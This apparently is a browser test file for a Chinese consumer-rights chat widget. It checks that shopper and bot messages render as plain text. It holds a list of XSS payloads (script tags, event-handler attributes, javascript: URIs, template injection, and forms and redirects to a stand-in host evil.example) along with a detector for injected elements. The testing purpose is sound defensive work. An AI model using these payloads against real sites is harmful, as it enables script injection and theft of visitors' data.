"""Hostile words, said by the shopper and by the bot: shown as words, never run, never made elements or links."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

from scripts.essentials import widget_essentials
from tests.browser.chat_page import Chat, Visitor, events, hold
from weiquan.facts.knowledge import Knowledge

CORPUS = [
    "<script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<svg onload=hacked()><circle r=9></svg>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<iframe src=javascript:parent.hacked()></iframe>",
    "<a href=javascript:hacked()>点我</a>",
    "javascript:hacked()",
    "[点我](javascript:hacked())",
    '![x](x" onerror="hacked())',
    '"><body onload=hacked()>',
    "' autofocus onfocus=hacked() x='",
    "<details open ontoggle=hacked()><summary>看</summary></details>",
    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/><link rel=stylesheet href=x.css>",
    "<form action=http://evil.example/><input name=身份证><button>提交</button></form>",
    "<math><mtext></p><img src=x onerror=hacked()></math>",
    "<template><script>hacked()</script></template><object data=http://evil.example/></object>",
    "{{constructor.constructor('hacked()')()}} ${hacked()} <%= hacked() %>",
    "data:text/html,<script>hacked()</script>",
    "http://evil.example/拼多多退款",
    "https://www.12315.cn.evil.example/papers/x https://evil.example@www.12315.cn:hacked@evil.example/",
    "\u202e<tpircs/>()dekcah<tpircs>\u202c\u0000\u2028",
    "__proto__",
]
BAD_ADDRESSES = [
    "javascript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "http://evil.example/papers/x",
    "//evil.example/papers/x",
    "vbscript:hacked()",
    "java\tscript:hacked()",
]


def watch_for_scripts(visitor: Visitor) -> None:
    """Let whatever runs in a page of this browser betray itself."""
    visitor.context.expose_function("hacked", lambda *_: visitor.wrong.append("a script ran"))


@pytest.fixture
def official(facts: Knowledge) -> list[str]:
    """The hosts that a word of the bot may link to."""
    return list(widget_essentials(facts)["hosts"])


def injected(chat: Chat, official: list[str]) -> list[str]:
    """Return elements and attributes that no page of ours has, and links that lead to no official site."""
    return chat.root.evaluate(
        """(host, official) => [...host.shadowRoot.querySelectorAll("*")].flatMap(one => {
            const found = [];
            const never = "script,style,img,iframe,object,embed,link,meta,base,math,template,body,video,audio,frame";
            if (one.matches(never)) found.push(one.outerHTML);
            if (one.matches("form:not(.composer):not(.word)")) found.push(one.outerHTML);
            for (const {name, value} of one.attributes) {
                if (name.startsWith("on")) found.push(name + "=" + value);
                if (/^(href|src|action|formaction|srcdoc|xlink:href)$/.test(name) && !/^(tel:[\\d+]+|#)/.test(value)) {
                    const url = new URL(value, location.href);
                    const ours = url.origin === location.origin && url.pathname.startsWith("/papers/");
                    if (!ours && !official.includes(url.hostname)) found.push(name + "=" + value);
                }
            }
            return found;
        })""",
        official,
    )


def test_what_the_shopper_says_is_shown_as_words(visitor, servers, official):
    watch_for_scripts(visitor)
    chat = visitor.open(servers.url + "/chat/")
    said = [text for text in CORPUS if text.isprintable()][:18]
    for words in said:
        chat.send(words)
        expect(chat.log.locator(".turn.user").last).to_contain_text(words)
    assert injected(chat, official) == []
    chat.page.reload()
    expect(chat.log.locator(".turn.user")).to_have_count(len(said))
    for at, words in enumerate(said):
        expect(chat.log.locator(".turn.user").nth(at)).to_contain_text(words)
    assert injected(chat, official) == []


def cards(words: str) -> list[dict[str, object]]:
    """Return a card of every kind with `words` in every field that holds text."""
    law = {"short": words, "title": words + "!", "meaning": words}
    due = {"name": words, "line": words, "ends": "2026-11-27", "days_left": 2, "approximate": True, "mine": True}
    button = {"title": words, "payload": words}
    people = [{"name": words, "value": words, "opens": words, "closes": words, "use": words, "caution": words}]
    people += [{"name": words, "value": words + str(at), "url": url} for at, url in enumerate(BAD_ADDRESSES)]
    people += [{"name": "电话", "value": "1" + words, "tel": words + "110"}]
    return [
        {
            "kind": "step", "title": words, "urgent": True, "opening": words, "reasons": [words], "moves": [words],
            "path": [words], "words": words, "evidence": [words], "contacts": people, "dues": [due], "laws": [law],
            "limits": [{"name": words, "text": words, "certain": True}], "after": words, "note": words,
        },
        {"kind": "question", "id": words, "text": words, "why": words},
        {
            "kind": "case", "title": words, "situation": words, "others": [words], "dues": [due],
            "facts": [{"label": words, "value": words}], "ladder": [{"id": words, "name": words, "state": "next"}],
        },
        {
            "kind": "evidence", "title": words, "note": words,
            "items": [{"id": words, "name": words, "how": words, "ticked": False, "payload": words}],
        },
        {"kind": "estimate", "title": words, "exclusions": [words], "note": words, "claims": [
            {"name": words, "amount": words, "formula": words, "conditions": [words], "laws": [law], "sure": True}]},
        *[{"kind": "dates", "title": words, "dues": [due], "calendar": url} for url in BAD_ADDRESSES],
        *[
            {"kind": "paper", "id": words, "title": words, "text": words, "url": url, "expires_hours": 24,
             "others": [button]}
            for url in BAD_ADDRESSES
        ],
        {"kind": "contacts", "title": words, "contacts": people, "note": words},
        {"kind": words, "title": words, "html": words},
        {"kind": "step", "moves": [{"toString": words}], "title": [words], "contacts": words, "dues": [None, words]},
    ]  # fmt: skip


def test_what_the_bot_says_is_shown_as_words(visitor, servers, official):
    watch_for_scripts(visitor)
    visitor.network_may_fail = True
    sent: list[tuple[str, object]] = []

    def tell(words: str, card: object = None, **more: object) -> None:
        at = "2026-11-24T10:00:00+08:00"
        message = {"seq": len(sent) + 1, "role": "bot", "id": None, "text": words, "buttons": [], "card": card}
        sent.append(("message", {**message, "at": at, "feedback": None, **more}))

    for words in CORPUS:
        tell(words)
    for words in ("<img src=x onerror=hacked()>", '"><script>hacked()</script>', "javascript:hacked()"):
        for card in cards(words):
            tell(words, card)
    buttons = [{"title": words, "payload": words} for words in CORPUS]
    tell("<b>选一个</b>", buttons=buttons, at="<script>hacked()</script>")
    stream = events(*sent, ("<script>hacked()</script>", {}), ("ready", {"seq": len(sent)}))
    page = visitor.context.new_page()
    page.add_init_script(f"localStorage.setItem({json.dumps('weiquan:session:' + servers.url)}, 'made up')")
    streams = iter([stream])

    def answer(route):
        body = next(streams, None)
        route.fulfill(content_type="text/event-stream", body=body) if body else hold(route)

    page.route("**/chat/events?*", answer)
    page.goto(servers.url + "/chat/")
    chat = Chat(page)
    expect(chat.replies).to_have_count(len(CORPUS))
    shown = chat.log.locator(".bubble")
    for at, words in enumerate(CORPUS):
        assert shown.nth(at).text_content() == words
        assert chat.replies.nth(at).text_content() == words
    assert injected(chat, official) == []
    for summary in chat.log.locator("summary").all()[:6]:
        summary.click()
    chat.root.get_by_role("button", name="复制").first.click()
    assert injected(chat, official) == []
    page.unroute_all(behavior="ignoreErrors")
